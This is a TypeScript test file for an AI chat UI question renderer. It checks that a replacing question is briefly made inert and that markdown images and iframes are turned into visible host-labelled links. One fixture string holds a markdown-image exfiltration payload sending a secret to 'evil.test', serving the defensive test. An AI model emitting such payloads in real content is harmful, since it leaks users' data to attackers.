import '@openspace/core/lib/browser/testing/browser-environment';
import { MutableChatModel, QuestionResponseContentImpl } from '@theia/ai-chat/lib/common';
import type { ResponseNode } from '@theia/ai-chat-ui/lib/browser/chat-tree-view';
import { OpenerService } from '@theia/core/lib/browser';
import { Container } from '@theia/core/shared/inversify';
import { flushSync } from '@theia/core/shared/react-dom';
import { createRoot, type Root } from '@theia/core/shared/react-dom/client';
import assert from 'node:assert/strict';
import { mock } from 'node:test';
import { ChatMarkdown } from '../markdown/chat-markdown';
import { AnswerSanitizer } from '../safety/answer-sanitizer';
import { ReadQuestionRenderer } from './read-question-renderer';

describe('ReadQuestionRenderer', () => {
    let host: HTMLElement;
    let root: Root;
    let show: (question: QuestionResponseContentImpl) => void;
    let ask: (text: string) => QuestionResponseContentImpl;

    before(() => new AnswerSanitizer().initialize());
    beforeEach(() => {
        mock.timers.enable({ apis: ['setTimeout'] });
        const container = new Container();
        container.bind<unknown>(OpenerService).toConstantValue({});
        container.bind(ChatMarkdown).toSelf();
        container.bind(ReadQuestionRenderer).toSelf();
        const renderer = container.get(ReadQuestionRenderer);
        const request = new MutableChatModel().addRequest({ request: { text: 'Tea!' }, parts: [], toolRequests: new Map(), variables: [] });
        request.response.waitForInput();
        const node = { response: request.response } as Partial<ResponseNode> as ResponseNode;
        host = document.body.appendChild(document.createElement('div'));
        root = createRoot(host);
        show = question => flushSync(() => root.render(renderer.render(question, node)));
        ask = text => new QuestionResponseContentImpl(text, [{ text: 'Yes' }], request, () => undefined);
    });
    afterEach(() => {
        root.unmount();
        host.remove();
        mock.timers.reset();
    });

    it('holds a question anew that comes to the place of another, and not one that is only shown again', () => {
        const isHeld = (): boolean => host.getElementsByTagName('button')[0].closest('[inert]') !== null;
        const first = ask('Tea?');
        show(first);
        mock.timers.tick(600);
        show(first);
        assert.equal(isHeld(), false);
        show(ask('Delete everything?'));
        assert.equal(isHeld(), true);
        mock.timers.tick(600);
        assert.equal(isHeld(), false);
    });

    it('shows a link with its host where a question would load something, before and after it is answered', () => {
        const question = ask('**Tea?** ![a](http://evil.test/steal?secret=tea) <iframe src="http://evil.test/"></iframe>');
        for (const answer of [undefined, 'Yes']) {
            if (answer) {
                mock.timers.tick(600);
                host.getElementsByTagName('button')[0].click();
                assert.deepEqual(question.selectedOptions, [{ text: answer }]);
            }
            show(question);
            const text = host.querySelector('.theia-QuestionPartRenderer-question');
            assert.equal(text?.querySelector('strong')?.textContent, 'Tea?');
            assert.deepEqual(
                [...text.querySelectorAll('a')].map(({ textContent, href }) => [textContent, href]),
                [
                    ['a (evil.test)', 'http://evil.test/steal?secret=tea'],
                    ['evil.test', 'http://evil.test/']
                ]
            );
            assert.equal(host.querySelector('img, iframe, .theia-blocked-resource'), null);
        }
    });
});
